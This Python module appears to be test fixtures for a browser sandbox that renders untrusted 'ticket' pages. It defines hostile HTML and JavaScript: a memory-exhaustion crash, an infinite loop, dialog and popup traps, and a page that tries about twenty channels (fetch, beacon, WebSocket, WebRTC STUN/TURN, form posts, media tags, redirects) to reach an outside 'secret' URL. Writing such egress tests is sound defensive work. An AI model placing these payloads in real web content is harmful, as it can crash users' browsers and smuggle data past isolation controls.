"""What the pages of bad tickets do in the browser."""

from __future__ import annotations

import json

CRASH = "<script>const a = []; for (;;) a.push(new Array(3e6).fill(a.length + 0.5));</script>"

SPIN = "<script>for (;;);</script>"

DIALOGS = """<script>
addEventListener("beforeunload", (event) => { event.preventDefault(); return "stay"; });
alert("The session ends soon."); confirm("Go on?"); prompt("Your name?");
</script>"""

POPUPS = """<script>
for (let i = 0; i < 3; i += 1) window.open(`/tickets?page=1&popup=${i}`, `popup${i}`);
</script>"""

_ATTACK = """<script>
const secret = SECRET;  // http://host:port/
const port = new URL(secret).port, host = new URL(secret).hostname;
const tries = {
  fetch: () => fetch(secret + "fetch", { mode: "no-cors" }),
  xhr: () => { const x = new XMLHttpRequest(); x.open("GET", secret + "xhr"); x.send(); },
  keepalive: () => fetch(secret + "keepalive", { mode: "no-cors", keepalive: true }),
  beacon: () => navigator.sendBeacon(secret + "beacon", "x"),
  ws: () => new WebSocket(secret.replace("http", "ws") + "ws"),
  events: () => new EventSource(secret + "events"),
  worker: () => new Worker(URL.createObjectURL(new Blob(
    [`fetch("${secret}worker", { mode: "no-cors" })`], { type: "text/javascript" }))),
  form: () => { document.querySelector("#leak").submit(); },
  stun: () => rtc({ urls: `stun:${host}:${port}` }),
  turn: () => rtc({ urls: `turn:${host}:${port}?transport=tcp`, username: "u", credential: "c" }),
  transport: () => new WebTransport(`https://${host}:${port}/transport`).ready,
  popup: () => window.open(secret + "popup"),
};
function rtc(server) {
  const peer = new RTCPeerConnection({ iceServers: [server] });
  peer.createDataChannel("x");
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
}
window.tried = [];
for (const [name, attempt] of Object.entries(tries)) {
  window.tried.push(name);
  try { Promise.resolve(attempt()).catch(() => {}); } catch { /* not in this browser */ }
}
setTimeout(() => { location.href = secret + "redirect"; }, 1500);
</script>
"""

_TAGS = """<link rel="preconnect" href="SECRET"><link rel="prefetch" href="SECRETprefetch">
<link rel="stylesheet" href="SECRETcss"><img alt="" src="SECRETimg">
<iframe src="SECRETiframe" title="x"></iframe><iframe name="sink" title="x"></iframe>
<video src="SECRETvideo"></video><object data="SECRETobject"></object>
<form id="leak" action="SECRETform" method="post" target="sink"><input name="a" value="b"></form>
<script async src="SECRETscript"></script>
"""

CHANNELS = {
    *("fetch", "xhr", "keepalive", "beacon", "ws", "events", "worker", "form", "popup", "prefetch"),
    *("css", "img", "iframe", "video", "object", "script", "redirect", "stun", "turn", "quic"),
}
"""The ways by which the page of the attack reaches the secret when nothing stops it."""


def attack(secret_url: str) -> str:
    """Return what tries to reach a URL; the last try leaves the page after 1.5 seconds."""
    return _TAGS.replace("SECRET", secret_url) + _ATTACK.replace("SECRET", json.dumps(secret_url))
